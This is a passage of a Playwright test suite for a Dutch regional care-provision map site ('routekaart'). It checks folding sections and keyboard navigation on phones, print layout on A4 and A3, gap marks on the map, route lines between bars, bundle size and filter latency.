  const opened = await page.evaluate(() => ({ expanded: document.querySelector("#routes > h2 > button").getAttribute("aria-expanded"),
    articles: [...document.querySelectorAll("#routes article[data-route]")].filter((a) => a.checkVisibility()).length }));
  assert.deepEqual(opened, { expanded: "true", articles: (data.routes || []).length }, "Enter on the routes' heading");
  await page.keyboard.press("Tab");
  assert.ok(await page.evaluate(() => document.querySelector("#routes").contains(document.activeElement) &&
    document.activeElement.localName !== "button"), "Tab after the opened heading does not go into the routes");
  await page.focus("#routes > h2 > button");
  await page.keyboard.press("Enter");
  assert.equal((await folded()).articles, 0, "Enter again does not fold the routes");
  // The section links at the top open what they lead to.
  await page.click('.page-links a[href="#hiaten"]');
  const gaps = await page.evaluate(() => ({ hash: location.hash, table: document.querySelector("#hiaten table").checkVisibility(),
    top: document.querySelector("#hiaten").getBoundingClientRect().top }));
  assert.equal(gaps.hash, "#hiaten");
  assert.ok(gaps.table, "the gaps link left the gaps folded");
  assert.ok(Math.abs(gaps.top) < 60, `the gaps are at ${gaps.top} px, not at the top`);
  // So does an address that leads into a folded part.
  const anchor = `route-${data.routes[0].id}`;
  const direct = await open(`${REGION}/#${anchor}`, { phone: true });
  await direct.waitForFunction(() => document.documentElement.classList.contains("js"));
  const d = await direct.evaluate((id) => { const a = document.getElementById(id); return a ? { shown: a.checkVisibility(), top: a.getBoundingClientRect().top } : null; }, anchor);
  assert.ok(d && d.shown && Math.abs(d.top) < 60, `#${anchor} on a phone: ${JSON.stringify(d)}`);
  // On a wide screen nothing folds.
  const wide = await gotoMap("");
  assert.equal(await wide.locator("#routes > h2 > button, #hiaten > h2 > button").count(), 0, "fold buttons at 1366 px");
  assert.equal(await wide.locator("#routes article[data-route]").count(), (data.routes || []).length);
});

await test("phone 390 px: a row of links jumps to each stage and stays in view", async () => {
  const page = await gotoMap("", { phone: true });
  const links = page.locator(".stage-jump a");
  assert.equal(await links.count(), 7);
  await links.nth(3).click();
  const r = await page.evaluate(() => {
    const nav = document.querySelector(".stage-jump").getBoundingClientRect();
    const heading = document.querySelector("#fase-babyfase h3").getBoundingClientRect();
    return { nav: [nav.top, nav.bottom], heading: heading.top, hash: location.hash };
  });
  assert.equal(r.hash, "#fase-babyfase");
  assert.ok(Math.abs(r.nav[0]) < 1, `the row of links is at ${r.nav[0]}, not at the top`);
  assert.ok(r.heading >= r.nav[1] - 1 && r.heading < 200, `the stage heading is at ${r.heading}, hidden or far down`);
});

await test("phone 390 px: a card shows whom to call, with a phone link", async () => {
  const page = await gotoMap("", { phone: true });
  const r = await page.evaluate(() => [...document.querySelectorAll("#tool [data-item]:not(.continues)")]
    .filter((c) => c.checkVisibility() && c.querySelector(".provider-line a[href^='tel:']"))
    .map((c) => c.querySelector(".provider-line a[href^='tel:']").checkVisibility()));
  assert.ok(r.length >= 10 && r.every(Boolean), `${r.length} cards with a visible phone link`);
});

for (const [label, query, phone] of [["map", "", false], ["tool", "&mode=tool&step=2", false], ["phone list", "", true]]) {
  await test(`no results (${label}): a clear message with a way to clear the filters`, async () => {
    const page = await gotoMap(`?q=xyzzy-nergens${query}`, { phone });
    const message = page.locator(".no-results").filter({ visible: true });
    assert.equal(await message.count(), 1, "no visible 'geen resultaten' message");
    assert.match(await message.innerText(), /Geen voorzieningen gevonden/);
    await message.locator("[data-clear]").click();
    await page.waitForFunction(() => !new URLSearchParams(location.search).get("q"));
    assert.equal(await page.locator(".no-results").filter({ visible: true }).count(), 0, "the message stays after clearing");
    assert.equal(await page.inputValue("#f-q"), "");
  });
}

// Why a page does not fit: laid out in print media at the width of an A4
// page less 14 mm margins (182 mm = 688 px), how tall is it against the
// 269 mm (1017 px) of one page, and where does the last visible content end?
async function printDiag(path) {
  const page = await open(null);
  await page.setViewportSize({ width: 688, height: 1017 });
  await page.emulateMedia({ media: "print" });
  await page.goto(U(path));
  const d = await page.evaluate(() => {
    const bottom = (el) => Math.round(el.getBoundingClientRect().bottom + scrollY);
    const main = document.querySelector("main");
    const shown = [...main.querySelectorAll("*")].filter((e) => e.checkVisibility() && e.getBoundingClientRect().height > 0);
    const last = shown.reduce((a, e) => (bottom(e) > (a ? bottom(a) : 0) ? e : a), null);
    return {
      height: document.documentElement.scrollHeight,
      main: bottom(main),
      last: last ? `${last.localName}${last.className ? "." + String(last.className).replace(/ /g, ".") : ""} ends at ${bottom(last)}` : "",
    };
  });
  return `height ${d.height} px of 1017 (main ends at ${d.main}; last content ${d.last})`;
}

// ---- the first screen, gaps on the map, the legend, links into the page (issue 10) ----

for (const [width, height] of [[1024, 768], [1366, 768]]) {
  await test(`first screen at ${width}×${height}: the map's header and its first bars are in view without scrolling`, async () => {
    const page = await gotoMap("", { viewport: { width, height } });
    const r = await page.evaluate(() => ({
      header: document.querySelector(".map-stages").getBoundingClientRect().bottom,
      bars: [...document.querySelectorAll(".map .bar")].filter((b) => b.getBoundingClientRect().bottom <= innerHeight).length,
      intro: !!document.querySelector("details.intro"), introOpen: document.querySelector("details.intro").open,
    }));
    assert.ok(r.header < height, `the map's stage header ends at ${r.header} px, below the ${height} px screen`);
    assert.ok(r.bars >= 2, `${r.bars} bars wholly in the first screen`);
    assert.ok(r.intro && !r.introOpen, "the coalition's introduction is folded under 'Over deze routekaart'");
    // The introduction is one click away, whole.
    await page.click("details.intro > summary");
    assert.match(await page.textContent("details.intro"), /lokale coalitie/i);
  });
}

await test("first screen on a phone (390×844): search is in view without scrolling", async () => {
  const page = await gotoMap("", { phone: true });
  const box = await page.locator("#f-q").boundingBox();
  assert.ok(box && box.y + box.height <= 844, `the search field ends at ${box && box.y + box.height} px`);
});

await test("keyboard: the links into the page reach the map in a few keys; Tab then lands on its first provision", async () => {
  const page = await gotoMap();
  const names = await page.$$eval('nav.page-links a', (as) => as.map((a) => [a.textContent.trim(), a.getAttribute("href")]));
  assert.deepEqual(names, [["Naar de kaart", "#kaart"], ["Klantroutes", "#routes"], ["Hiaten", "#hiaten"], ["Contact", "#over-titel"]]);
  for (const [, href] of names) assert.equal(await page.locator(href).count(), 1, `${href} has no target`);
  // Skip link, Enter, then Tab to "Naar de kaart".
  let presses = 0;
  const press = async (key) => { presses++; await page.keyboard.press(key); };
  await press("Tab");
  await press("Enter");
  for (let i = 0; i < 10 && (await focused(page)).href !== "#kaart"; i++) await press("Tab");
  assert.equal((await focused(page)).href, "#kaart", "Tab never reached 'Naar de kaart'");
  await press("Enter");
  await press("Tab");
  const f = await focused(page);
  assert.ok(f.bar, `after 'Naar de kaart', Tab focuses ${f.tag}.${f.cls}, not a provision`);
  assert.ok(presses <= 8, `${presses} key presses from the top to the first provision (25 before)`);
  note(`key presses from the top of the region page to its first provision: ${presses}`);
  // From the tool, the link goes back to the overview and its map.
  const tool = await gotoMap("?mode=tool");
  await tool.click('nav.page-links a[href="#kaart"]');
  assert.ok(await tool.locator("#kaart").isVisible(), "the map is not shown after 'Naar de kaart' in the tool");
  assert.equal(await tool.evaluate(() => document.activeElement.id), "kaart");
});

await test("map: a stage without any provision of a lane is marked in its cell, inside the stage's columns, hidden with its lane", async () => {
  const page = await open("zeeuws-vlaanderen/", { viewport: { width: 1366, height: 768 } });
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  const data = JSON.parse(readFileSync(join(site.dir, "zeeuws-vlaanderen", "data.json"), "utf8"));
  assert.ok(data.gaps.empty.length > 0, "the example region has no gap to show");
  const marks = await page.evaluate(() => [...document.querySelectorAll(".map .map-gap")].map((g) => {
    const box = g.getBoundingClientRect();
    const head = document.querySelector(`.map-stage[data-stage="${g.dataset.stage}"]`).getBoundingClientRect();
    return { lane: g.dataset.lane, stage: g.dataset.stage, text: g.textContent.replace(/\s+/g, " ").trim(),
      inside: box.left >= head.left - 1 && box.right <= head.right + 1, width: box.width, lane_ok: g.closest(".lane").dataset.lane === g.dataset.lane };
  }));
  assert.deepEqual(marks.map((m) => `${m.lane}/${m.stage}`).sort(), data.gaps.empty.map((g) => `${g.lane}/${g.stage}`).sort());
  for (const m of marks) {
    assert.ok(m.inside && m.width > 20, `${m.lane}/${m.stage}: the mark is not in its stage's columns`);
    assert.ok(m.lane_ok, `${m.lane}/${m.stage}: the mark is in another lane`);
    assert.match(m.text, /^geen aanbod in de fase /, `${m.lane}/${m.stage}: "${m.text}"`);
  }
  assert.deepEqual(await mapProblems(page), []);
  await page.check('input[name=lane][value="digitaal"]');
  assert.equal(await page.locator(".map .map-gap:visible").count(), 0, "gap marks of lanes filtered out stay visible");
  // None in a region without gaps.
  const full = await gotoMap();
  assert.equal(await full.locator(".map .map-gap").count(), region.data.gaps.empty.length);
});

await test("legend: the disclosure shows a marker and says it explains the signs; every cost sign is distinct and none is a bare 0 or ✓", async () => {
  const page = await gotoMap();
  const r = await page.evaluate(() => {
    const summary = document.querySelector(".legend summary");
    const signs = [...document.querySelectorAll(".legend dt .cost-icon")].map((i) => getComputedStyle(i, "::before").content.replace(/"/g, ""));
    return { marker: getComputedStyle(summary, "::before").content, hint: document.querySelector(".legend-hint").innerText.trim(), signs };
  });
  assert.ok(/[▸▶►]/.test(r.marker), `no disclosure marker (${r.marker})`);
  assert.equal(r.hint, "Uitleg van de tekens");
  assert.equal(new Set(r.signs).size, r.signs.length, `signs repeat: ${r.signs}`);
  for (const sign of r.signs) assert.ok(!["0", "✓", "none", ""].includes(sign), `sign "${sign}"`);
  await page.click(".legend summary");
  assert.ok(await page.locator(".legend dl").isVisible(), "the explanations do not open");
  assert.equal((await page.locator(".legend-hint").innerText()).trim(), "Uitleg verbergen");
});

area("print");
await test("print: a detail page is one A4 page", async () => {
  const path = `${REGION}/knooppunt.html`;
  const page = await open(path);
  await page.emulateMedia({ media: "print" });
  const pdf = await page.pdf({ format: "A4", printBackground: true });
  writeFileSync(join(OUT_DIR, "knooppunt-print.pdf"), pdf);
  const n = pdfPages(pdf);
  assert.equal(n, 1, `${BASE}${path} prints on ${n} pages; ${n > 1 ? await printDiag(path) : ""}`);
});

await test("print: every detail page of every region is one A4 page", async () => {
  const bad = [];
  const page = await open(null);
  await page.emulateMedia({ media: "print" });
  const details = listFiles(site.dir, ".html").filter((f) => /^[^/]+\/[^/]+\.html$/.test(f) &&
    !f.endsWith("/index.html") && !f.endsWith("/embed.html") && !f.startsWith("guidance/"));
  for (const rel of details) {
    await page.goto(U(rel));
    const n = pdfPages(await page.pdf({ format: "A4", printBackground: true }));
    if (n !== 1) bad.push(`${rel}: ${n} pages, ${await printDiag(rel)}`);
  }
  note(`${details.length} detail pages printed, ${bad.length} on more than one page`);
  assert.deepEqual(bad, [], bad.join("; "));
}, { timeoutMs: 180_000 });

await test("print: with the page size from the CSS, the region map is A3 landscape and a detail page A4 portrait", async () => {
  const want = [
    ["region map", `${REGION}/`, "A3 landscape", [1190.55, 841.89]],
    ["detail page", `${REGION}/knooppunt.html`, "A4 portrait", [595.28, 841.89]],
  ];
  const bad = [];
  for (const [label, path, name, [w, h]] of want) {
    const page = path.endsWith("/") ? await gotoMap() : await open(path);
    await page.emulateMedia({ media: "print" });
    const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
    writeFileSync(join(OUT_DIR, `${label.replace(/ /g, "-")}-css-page-size.pdf`), pdf);
    const [gw, gh] = pdfFirstPageSize(pdf);
    note(`${label} (${BASE}${path}): first page ${gw.toFixed(2)} × ${gh.toFixed(2)} pt, ${pdfPages(pdf)} page(s)`);
    if (Math.abs(gw - w) > 2 || Math.abs(gh - h) > 2) {
      bad.push(`${label} ${BASE}${path}: first page ${gw.toFixed(2)} × ${gh.toFixed(2)} pt, not ${name} ${w} × ${h}`);
    }
  }
  assert.deepEqual(bad, [], bad.join("; "));
});

await test("print: the A3 poster with the browser's default settings (no background graphics) holds the whole map, every bar's extent, 9 pt titles", async () => {
  const page = await gotoMap();
  // The poster's printable area: A3 landscape less 10 mm margins, in CSS px.
  await page.setViewportSize({ width: 1512, height: 1047 });
  await page.emulateMedia({ media: "print" });
  const r = await page.evaluate(() => {
    const map = document.querySelector(".map").getBoundingClientRect();
    const bars = [...document.querySelectorAll(".map .bar")].map((b) => {
      const s = getComputedStyle(b);
      return { id: b.dataset.provision, border: parseFloat(s.borderTopWidth), color: s.borderTopColor, exact: s.printColorAdjust,
        font: parseFloat(getComputedStyle(b.querySelector(".bar-title")).fontSize) };
    });
    return { bottom: map.bottom + scrollY, bars };
  });
  assert.ok(r.bottom <= 1047, `the map ends at ${Math.round(r.bottom)} px, below the first A3 page (1047 px)`);
  for (const b of r.bars) {
    assert.ok(b.border >= 1 && !/rgba\(.*, 0\)$/.test(b.color), `${b.id}: no border to show its extent without backgrounds`);
    assert.equal(b.exact, "exact", `${b.id}: its lane colour does not print`);
    assert.ok(b.font >= 12, `${b.id}: title ${b.font} px, under 9 pt`);
  }
  // The PDF as the browser prints it by default, and a picture of its first page.
  const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: false });
  writeFileSync(join(OUT_DIR, "poster-default-print.pdf"), pdf);
  execFileSync("pdftoppm", ["-png", "-r", "60", "-f", "1", "-l", "1", "-singlefile", join(OUT_DIR, "poster-default-print.pdf"),
    join(OUT_DIR, "poster-default-print")]);
  note(`poster: ${pdfPages(pdf)} A3 page(s); first page in ${join(OUT_DIR, "poster-default-print.png")}`);
});

area("screens");
await test(`size: JS + CSS gzipped <= ${GZ_BUDGET / 1024} KB`, async () => {
  // The fingerprinted copies (routekaart.1a2b3c4d.css) are the same bytes.
  const files = listFiles(join(site.dir, "assets")).filter((f) => /\.(js|css)$/.test(f) && !/\.[0-9a-f]{8}\.(js|css)$/.test(f));
  let total = 0;
  const parts = [];
  for (const f of files) {
    const raw = readFileSync(join(site.dir, "assets", f));
    const gz = gzipSync(raw, { level: 9 }).length;
    total += gz;
    parts.push(`${f} ${raw.length} B raw, ${gz} B gz`);
  }
  note(`JS+CSS gzipped: ${total} bytes (${(total / 1024).toFixed(1)} KB) — ${parts.join("; ")}`);
  assert.ok(total <= GZ_BUDGET, `${total} bytes gzipped`);
});

await test("latency: navigation start to the filtered result for ?lane=steuntje&q=geld", async () => {
  const want = region.visible({ lane: ["steuntje"], q: "geld" }).length;
  const page = await open(null);
  await page.addInitScript((text) => {
    const check = () => {
      const out = document.querySelector("#f-count");
      if (window.__filteredAt == null && out && out.textContent.trim() === text) window.__filteredAt = performance.now();
    };
    new MutationObserver(check).observe(document, { childList: true, subtree: true, characterData: true });
  }, `${want} van ${TOTAL} voorzieningen`);
  const runs = [];
  for (let i = 0; i < 5; i++) {
    await page.goto(U(`${REGION}/?lane=steuntje&q=geld`));
    await page.waitForFunction(() => window.__filteredAt != null);
    runs.push(await page.evaluate(() => window.__filteredAt));
  }
  runs.sort((a, b) => a - b);
  note(`filtered result after ${runs.map((x) => x.toFixed(0)).join(", ")} ms (median ${runs[2].toFixed(0)} ms, 5 loads)`);
  // Wall-clock time, which a busy machine stretches (the browser areas run
  // side by side): 1.5 s is the aim, noted above; the check is only against
  // a page that never or hardly ever gets there.
  assert.ok(runs[2] < 15_000, `median ${runs[2]} ms`);
});

await test("screenshots at 1366×768 and 390×844, the map also at 1024×768 and 1920×1080", async () => {
  for (const [width, height] of [[1024, 768], [1920, 1080]]) {
    const page = await open(`${REGION}/`, { viewport: { width, height } });
    await page.screenshot({ path: join(SHOTS, `map-${width}.png`), fullPage: true });
    await page.screenshot({ path: join(SHOTS, `map-${width}-first-screen.png`) });
  }
  await closePages();
  const shots = [
    ["home", ""], ["map", `${REGION}/`], ["map-tool", `${REGION}/?mode=tool&step=2`],
    ["map-route", `${REGION}/?route=jonge-moeder-kwetsbaar`], ["detail", `${REGION}/knooppunt.html`],
    ["guidance", "guidance/klantroutes-maken.html"],
  ];
  for (const [size, phone] of [["desktop", false], ["phone", true]]) {
    for (const [name, path] of shots) {
      const page = await open(path, { phone });
      const file = join(SHOTS, `${name}-${size}.png`);
      await page.screenshot({ path: file, fullPage: true });
    }
    await closePages();
  }
  note(`screenshots in ${SHOTS}`);
});

// Two findings of other checkers: HTML_CodeSniffer H91 (a select without
// a selected option) and W3C Nu's "section lacks heading" on the journeys.
await test("audit: each select of a region page has a selected option in its HTML; each journey's section has a heading", async () => {
  for (const id of listFiles(site.dir, "data.json").map((f) => f.split("/")[0])) {
    const page = await open(`${id}/`, { js: false });
    const r = await page.evaluate(() => ({
      selects: [...document.querySelectorAll("select")].map((s) => [s.id, s.querySelectorAll("option[selected]").length]),
      journeys: [...document.querySelectorAll("section:has(> table.journey)")].map((s) =>
        [s.closest("[data-route]").dataset.route, s.querySelector(":scope > :is(h2, h3, h4, h5, h6)")?.textContent.trim() ?? null]),
    }));
    assert.ok(r.selects.length > 0, `${id}: no select`);
    for (const [sel, n] of r.selects) assert.equal(n, 1, `${id}: #${sel} has ${n} selected options`);
    for (const [route, heading] of r.journeys) assert.ok(heading, `${id}: the journey of ${route} has no heading`);
    if (id === REGION) assert.equal(r.journeys.length, region.routes.length, `${id}: journeys`);
    await page.context().close();
  }
});

if (withValidate) await test("html-validate: every generated page", async () => {
  const { files, problems } = await validateSite(site.dir);
  const pages = new Set(problems.map((p) => p.file));
  note(`html-validate: ${files.length} pages, ${problems.length} errors on ${pages.size} pages`);
  assert.equal(problems.length, 0, summarize(problems).join(" || "));
}, { timeoutMs: 180_000 });


// ---- routes as paths (issue 10) ----
// The chosen route's bars joined by lines in step order, its step list
// beside the map, and the client-journey fields (persona, moments of truth,
// handovers, current beside desired) in the route view.

// The segments drawn over the map, and for each the bars at its ends, in
// client coordinates.
async function routeLines(page) {
  return page.evaluate(() => {
    const svg = document.querySelector(".map .route-lines");
    if (!svg) return null;
    const box = svg.getBoundingClientRect();
    const rect = (el) => { const r = el.getBoundingClientRect(); return { left: r.left, right: r.right, top: r.top, bottom: r.bottom }; };
    const ends = (d) => {
      const n = (d.match(/-?\d+(\.\d+)?/g) || []).map(Number);
      return [{ x: box.left + n[0], y: box.top + n[1] }, { x: box.left + n[n.length - 2], y: box.top + n[n.length - 1] }];
    };
    const steps = (document.querySelector("#route-strip article[data-route]")?.dataset.steps || "").split(/\s+/).filter(Boolean);
    return {
      hidden: svg.getAttribute("aria-hidden"),
      visible: steps.filter((id) => {
        const bar = document.querySelector(`.map .bar[data-provision="${id}"]`);
        return bar && bar.checkVisibility();
      }),
      segments: [...svg.querySelectorAll("path.route-link")].map((p) => {
        const [a, b] = ends(p.getAttribute("d"));
        return { from: p.dataset.from, to: p.dataset.to, a, b,
          fromBox: rect(document.querySelector(`.map .bar[data-provision="${p.dataset.from}"]`)),
          toBox: rect(document.querySelector(`.map .bar[data-provision="${p.dataset.to}"]`)),
          stroke: getComputedStyle(p).stroke, width: parseFloat(getComputedStyle(p).strokeWidth) };
      }),
    };
  });
}

function assertRouteLines(r, label) {
  assert.ok(r, `${label}: no .route-lines over the map`);
  assert.equal(r.hidden, "true", `${label}: the lines are not aria-hidden`);
  const pairs = r.visible.slice(1).map((id, i) => [r.visible[i], id]);
  assert.deepEqual(r.segments.map((s) => [s.from, s.to]), pairs, `${label}: one segment per consecutive pair of visible steps`);
  const on = (p, box) => p.x >= box.left - 1 && p.x <= box.right + 1 && p.y >= box.top - 1 && p.y <= box.bottom + 1;
  for (const s of r.segments) {
    assert.ok(on(s.a, s.fromBox), `${label}: ${s.from}→${s.to} starts at ${Math.round(s.a.x)},${Math.round(s.a.y)}, off its bar`);
    assert.ok(on(s.b, s.toBox), `${label}: ${s.from}→${s.to} ends at ${Math.round(s.b.x)},${Math.round(s.b.y)}, off its bar`);
    assert.ok(s.width >= 1 && s.stroke !== "none", `${label}: ${s.from}→${s.to} has no stroke`);
  }
}

area("routes");
for (const route of region.routes) {
  await test(`route path ${route.id}: a line per pair of consecutive steps, from bar to bar, redrawn for a filter, the fit view and a resize`, async () => {
    const page = await gotoMap(`?route=${route.id}`);
    const steps = route.steps.map((s) => s.provision);
    let r = await routeLines(page);
    assert.deepEqual(r.visible, steps, "every step is on the map");
    assertRouteLines(r, "1366 px");
    // A filter hides some steps: the line skips them.
    const lane = data.provisions.find((p) => p.id === steps[0]).lane;
    await page.check(`input[name=lane][value="${lane}"]`);
    await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
    r = await routeLines(page);
    assertRouteLines(r, `lane=${lane}`);
    assert.ok(r.visible.length < steps.length || steps.every((id) => data.provisions.find((p) => p.id === id).lane === lane), "the filter hid no step");
    await page.uncheck(`input[name=lane][value="${lane}"]`);
    await page.click("#map-fit");
    await page.waitForFunction(() => document.body.classList.contains("map-fit"));
    await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
    assertRouteLines(await routeLines(page), "fit view");
    await page.click("#map-fit");
    await page.setViewportSize({ width: 1024, height: 768 });
    await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
    assertRouteLines(await routeLines(page), "1024 px");
    await page.setViewportSize({ width: 1920, height: 1080 });
    await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
    assertRouteLines(await routeLines(page), "1920 px");
    // No route, no lines.
    await page.selectOption("#f-route", "");
    await page.waitForFunction(() => document.querySelectorAll(".route-lines path.route-link").length === 0);
  });
}

await test("route path: the step list stands above the map at 1024, 1366 and 1920 px, in route order, each step linking to its provision", async () => {
  const route = region.routes.find((r) => r.id === "jonge-moeder-kwetsbaar");
  const steps = route.steps.map((s) => s.provision);
  const page = await gotoMap(`?route=${route.id}`);
  const place = () => page.evaluate(() => {
    const aside = document.querySelector("#route-aside");
    const map = document.querySelector(".map").getBoundingClientRect();
    const box = aside.getBoundingClientRect();
    return {
      shown: aside.checkVisibility(),
      steps: [...aside.querySelectorAll("li[data-step]")].map((li) => li.dataset.step),
      links: [...aside.querySelectorAll("li[data-step] > a")].map((a) => new URL(a.href).pathname),
      above: box.bottom <= map.top + 1 && box.left >= map.left - 1 && box.right <= map.right + 1,
    };
  });
  for (const [width, height, where] of [[1366, 768, "above"], [1920, 1080, "above"], [1024, 768, "above"]]) {
    await page.setViewportSize({ width, height });
    await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => done(true))));
    const r = await place();
    assert.ok(r.shown, `${width} px: no step list with the map`);
    assert.deepEqual(r.steps, steps, `${width} px: step list order`);
    assert.deepEqual(r.links, steps.map((id) => `${BASE}${REGION}/${id}.html`), `${width} px: step links`);
    assert.ok(r[where], `${width} px: the step list is not ${where} the map`);
  }
  // Another route takes its place; none empties it.
  await page.selectOption("#f-route", "zwangere-met-geldzorgen");
  await page.waitForFunction(() => document.querySelector("#route-aside li[data-step]")?.dataset.step === "verloskundige-zorg");
  assert.equal(await page.locator("#route-aside .route-path").count(), 1, "two step lists beside the map");
  await page.selectOption("#f-route", "");
  await page.waitForFunction(() => document.querySelector("#route-aside").hidden);
  assert.equal(await page.locator("article[data-route] .route-path").count(), region.routes.length, "a step list did not go back to its route");
});

await test("route view: persona card above the journey, moments of truth marked with text and icon, handover owner per step, current and desired route side by side (stacked on a phone)", async () => {
  const providers = new Map();
  for (const p of data.provisions) if (p.provider) providers.set(p.provider.id, p.provider.name);
  const checked = { persona: 0, mot: 0, handover: 0, current: 0 };
  for (const route of region.routes) {
    const page = await gotoMap(`?route=${route.id}`);
    const r = await page.evaluate(() => {
      const article = document.querySelector("#route-strip article[data-route]");
      const top = (el) => (el ? el.getBoundingClientRect().top + scrollY : null);
      const rows = [...article.querySelectorAll(".journey tbody tr")];
      const variant = (name) => {
        const el = article.querySelector(`.route-variant[data-variant="${name}"]`);
        if (!el) return null;
        const b = el.getBoundingClientRect();
        return { left: b.left, right: b.right, top: b.top, bottom: b.bottom, steps: [...el.querySelectorAll("li[data-step]")].map((li) => li.dataset.step) };
      };
      return {
        persona: article.querySelector(".persona")?.textContent.replace(/\s+/g, " ").trim() ?? null,
        personaTop: top(article.querySelector(".persona")),
        journeyTop: top(article.querySelector(".emotion, .table-wrap")),
        aside: [...document.querySelectorAll("#route-aside li[data-step]")].map((li) => {
          const mot = li.querySelector(".mot");
          return mot ? { text: mot.textContent.replace(/\s+/g, " ").trim(), shown: mot.checkVisibility() } : null;
        }),
        rows: rows.map((tr) => ({
          mot: tr.querySelector("th .mot-cell")?.textContent.replace(/\s+/g, " ").trim() ?? null,
          handover: tr.querySelector('td[data-label="Overdracht"]').textContent.replace(/\s+/g, " ").trim(),
        })),
        huidig: variant("huidig"), gewenst: variant("gewenst"),
      };
    });
    const label = route.id;
    if (route.persona) {
      checked.persona++;
      assert.ok(r.persona && r.persona.includes(route.persona.name) && r.persona.includes(route.persona.situation), `${label}: persona card`);
      assert.ok(r.journeyTop === null || r.personaTop < r.journeyTop, `${label}: the persona is not above the journey`);
    } else {
      assert.equal(r.persona, null, `${label}: a persona card without a persona`);
    }
    route.steps.forEach((step, i) => {
      if (step.moment_of_truth) {
        checked.mot++;
        assert.deepEqual(r.aside[i], { text: "⚑ Moment van de waarheid", shown: true }, `${label} step ${i + 1}: moment of truth in the step list`);
        assert.ok(r.rows[i].mot && r.rows[i].mot.includes(step.moment_of_truth) && r.rows[i].mot.includes("⚑"), `${label} step ${i + 1}: moment of truth in the journey`);
      } else {
        assert.equal(r.aside[i], null, `${label} step ${i + 1}: marked without moment_of_truth`);
      }
      if (step.handover) {
        checked.handover++;
        const owner = step.handover.owner_provider ? providers.get(step.handover.owner_provider) : step.handover.owner;
        assert.ok(owner && r.rows[i].handover.includes(`regie bij ${owner}`), `${label} step ${i + 1}: handover owner '${owner}' not in '${r.rows[i].handover}'`);
        assert.ok(r.rows[i].handover.includes(`naar ${providers.get(step.handover.to)}`), `${label} step ${i + 1}: handover to`);
      } else {
        assert.equal(r.rows[i]?.handover ?? "", "", `${label} step ${i + 1}: a handover that is not written`);
      }
    });
    if (route.current_steps) {
      checked.current++;
      assert.deepEqual(r.huidig.steps, route.current_steps.map((s) => s.provision), `${label}: current route`);
      assert.deepEqual(r.gewenst.steps, route.steps.map((s) => s.provision), `${label}: desired route`);
      assert.ok(r.huidig.right <= r.gewenst.left && Math.abs(r.huidig.top - r.gewenst.top) < 1, `${label}: current and desired are not side by side at 1366 px`);
      const phone = await gotoMap(`?route=${route.id}`, { phone: true });
      const s = await phone.evaluate(() => {
        const box = (n) => document.querySelector(`#route-strip .route-variant[data-variant="${n}"]`).getBoundingClientRect();
        return { huidig: box("huidig").bottom, gewenst: box("gewenst").top };
      });
      assert.ok(s.gewenst >= s.huidig, `${label}: current and desired not stacked on a phone`);
    } else {
      assert.equal(r.huidig, null, `${label}: a current route that is not written`);
    }
  }
  // The example content shows each field at least once.
  for (const [field, n] of Object.entries(checked)) assert.ok(n > 0, `no example route uses ${field}`);
});

await test("route view on a phone (390 px): nothing scrolls sideways, the lines are not drawn over the lists", async () => {
  for (const route of region.routes) {
    const page = await gotoMap(`?route=${route.id}`, { phone: true });
    const o = await overflow(page);
    assert.ok(o.scrollWidth <= o.clientWidth, `${route.id}: the page is ${o.scrollWidth} px wide: ${o.offenders.join(", ")}`);
    assert.ok(await page.evaluate(() => document.querySelector("#route-aside").checkVisibility()), `${route.id}: no step list on a phone`);
    // The lines are drawn in the map, which a phone keeps out of the document.
    assert.equal(await page.evaluate(() => !!document.querySelector(".route-lines") && document.querySelector(".route-lines").checkVisibility()), false, `${route.id}: lines over the phone's lists`);
  }
});

await test("route on the A3 poster with the browser's default print settings: the lines are strokes from bar to bar, the step list and the questions on the first sheet", async () => {
  const page = await gotoMap("?route=jonge-moeder-kwetsbaar");
  await page.setViewportSize({ width: 1512, height: 1047 });
  await page.emulateMedia({ media: "print" });
  await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
  const r = await routeLines(page);
  assertRouteLines(r, "print");
  assert.equal(r.segments.length, 5, "segments on the poster");
  // The step list above the map leaves the questions on the first sheet.
  const [bottom, listed] = await page.evaluate(() => [document.querySelector(".map").getBoundingClientRect().bottom + scrollY,
    document.querySelector("#route-aside").checkVisibility()]);
  assert.ok(listed, "no step list on the poster");
  assert.ok(bottom <= 1047, `with a route the map and its questions end at ${Math.round(bottom)} px, below the first A3 page (1047 px)`);
  const exact = await page.evaluate(() => getComputedStyle(document.querySelector(".route-link")).printColorAdjust);
  assert.equal(exact, "exact", "the lines may be dropped in print");
  const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: false });
  writeFileSync(join(OUT_DIR, "poster-route-default-print.pdf"), pdf);
  execFileSync("pdftoppm", ["-png", "-r", "60", "-f", "1", "-l", "1", "-singlefile", join(OUT_DIR, "poster-route-default-print.pdf"),
    join(OUT_DIR, "poster-route-default-print")]);
  note(`poster with a route: ${pdfPages(pdf)} page(s); first page in ${join(OUT_DIR, "poster-route-default-print.png")}`);
});

await test("route view screenshots at 1024×768, 1366×768, 1920×1080 and 390×844 (map with the lines and the step list, then the journey)", async () => {
  for (const [width, height] of [[1024, 768], [1366, 768], [1920, 1080], [390, 844]]) {
    const page = await gotoMap("?route=zwangere-met-geldzorgen", { viewport: { width, height }, phone: width < 500 });
    await page.evaluate(() => document.querySelector(".map-area").scrollIntoView());
    await page.screenshot({ path: join(SHOTS, `route-map-${width}.png`) });
    await page.evaluate(() => document.querySelector("#route-strip").scrollIntoView());
    await page.screenshot({ path: join(SHOTS, `route-journey-${width}.png`) });
  }
  note(`route view screenshots in ${SHOTS}/route-*.png`);
});

// ---- finding things: comparison, search words, guidance steps, home search (issue 10) ----

// The comparison page against the open data of every region: a cell is "ja"
// (with the region's own name where its provision plays the catalog one's
// role under another title), "ontbreekt" for a required provision the
// region lacks, "nee" for an optional one.
const regionData = Object.fromEntries(listFiles(site.dir, "data.json").map((f) => {
  const d = JSON.parse(readFileSync(join(site.dir, f), "utf8"));
